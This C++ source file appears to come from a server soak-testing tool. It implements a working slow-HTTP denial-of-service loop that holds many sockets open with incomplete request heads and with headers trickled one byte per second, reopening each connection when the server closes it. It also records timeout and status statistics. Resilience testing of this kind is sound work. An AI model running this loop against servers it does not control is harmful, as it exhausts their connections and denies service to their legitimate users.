#include "soak_attack.h"

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>

namespace vankho::soak {
namespace {

constexpr char kIdleHead[] = "GET / HTTP/1.1\r\nHost: x\r\n";  // the blank line never comes
constexpr char kTrickleHead[] = "GET /api/health HTTP/1.1\r\nHost: x\r\nX-Slow: ";

enum class State { kClosed, kConnecting, kHeld };

struct Slot {
  bool trickle = false;
  int fd = -1;
  State state = State::kClosed;
  Clock::time_point since;      // connect started, or established
  Clock::time_point retry_at;   // when closed: when to open again
  Clock::time_point next_byte;  // trickle: when to send the next byte
  size_t sent = 0;              // trickle: bytes sent on this connection
  bool status_seen = false;
};

double ms_since(Clock::time_point t) {
  return std::chrono::duration<double, std::milli>(Clock::now() - t).count();
}

}  // namespace

void run_attack(const AttackOptions& opts, const std::atomic<bool>& stop, AttackStats& stats) {
  std::vector<Slot> slots(opts.idle + opts.trickle);
  for (size_t i = opts.idle; i < slots.size(); ++i) slots[i].trickle = true;
  size_t open_now = 0;
  auto shut = [&](Slot& s, std::chrono::milliseconds pause) {
    if (s.state == State::kHeld) --open_now;
    if (s.fd >= 0) ::close(s.fd);
    s.fd = -1;
    s.state = State::kClosed;
    s.retry_at = Clock::now() + pause;
  };
  std::vector<pollfd> fds;
  std::vector<size_t> which;
  char buf[4096];
  while (!stop.load() && Clock::now() < opts.end) {
    const auto now = Clock::now();
    fds.clear();
    which.clear();
    for (size_t i = 0; i < slots.size(); ++i) {
      Slot& s = slots[i];
      if (s.state == State::kClosed && now >= s.retry_at) {
        s.fd = connect_nonblocking(opts.host, opts.port);
        if (s.fd < 0) {
          ++stats.connect_failed;
          s.retry_at = now + std::chrono::milliseconds(100);
          continue;
        }
        s.state = State::kConnecting;
        s.since = now;
        s.sent = 0;
        s.status_seen = false;
      }
      if (s.state == State::kConnecting && now - s.since > std::chrono::seconds(5)) {
        ++stats.connect_failed;
        shut(s, std::chrono::milliseconds(100));
        continue;
      }
      if (s.state == State::kHeld && s.trickle && now >= s.next_byte) {
        const std::string head = std::string(kTrickleHead) + std::string(8000, 'a');
        const char byte = head[s.sent % head.size()];
        if (::send(s.fd, &byte, 1, MSG_NOSIGNAL) == 1) {
          ++s.sent;
          ++stats.trickle_bytes;
        }
        s.next_byte = now + std::chrono::seconds(1);
      }
      if (s.state == State::kClosed) continue;
      fds.push_back(
          {s.fd, static_cast<short>(s.state == State::kConnecting ? POLLOUT : POLLIN), 0});
      which.push_back(i);
    }
    if (fds.empty()) {
      ::usleep(10000);
      continue;
    }
    if (::poll(fds.data(), fds.size(), 50) <= 0) continue;
    for (size_t k = 0; k < fds.size(); ++k) {
      if (fds[k].revents == 0) continue;
      Slot& s = slots[which[k]];
      if (s.state == State::kConnecting) {
        int err = 0;
        socklen_t len = sizeof err;
        ::getsockopt(s.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0 || (fds[k].revents & (POLLERR | POLLHUP))) {
          ++stats.connect_failed;
          shut(s, std::chrono::milliseconds(100));
          continue;
        }
        ++stats.opened;
        stats.max_open = std::max(stats.max_open, ++open_now);
        s.state = State::kHeld;
        s.since = Clock::now();
        if (s.trickle) {
          s.next_byte = s.since;
        } else {
          (void)::send(s.fd, kIdleHead, sizeof kIdleHead - 1, MSG_NOSIGNAL);
        }
        continue;
      }
      const ssize_t n = ::recv(s.fd, buf, sizeof buf, 0);
      if (n > 0) {  // the server answered (a 408, say); it closes next
        if (!s.status_seen && n >= 12 && std::string(buf, 5) == "HTTP/") {
          ++stats.statuses[std::atoi(buf + 9)];
          s.status_seen = true;
        }
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EINTR)) continue;
      ++stats.closed_by_server;
      (s.trickle ? stats.trickle_held_ms : stats.idle_held_ms).push_back(ms_since(s.since));
      shut(s, std::chrono::milliseconds(0));  // reopened at once
    }
  }
  for (Slot& s : slots) {
    if (s.fd >= 0) ::close(s.fd);
  }
}

}  // namespace vankho::soak
